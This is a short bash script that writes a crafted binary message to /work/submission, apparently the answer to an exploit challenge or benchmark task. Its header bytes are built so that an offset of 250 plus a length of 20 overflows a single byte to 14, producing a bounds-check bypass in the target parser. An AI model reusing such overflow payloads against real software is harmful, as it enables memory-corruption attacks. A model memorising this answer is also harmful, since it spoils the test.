#!/bin/bash
# The end of a piece is kept in one byte: offset 250 plus length 20 becomes 14, which fits a message of 20.
set -eu
python3 - <<'END'
import struct
import zlib

body = bytes([0, 20, 250, 20]) + b"A" * 20
with open("/work/submission", "wb") as out:
    out.write(b"\x7e" + body + struct.pack(">I", zlib.crc32(body)))
END
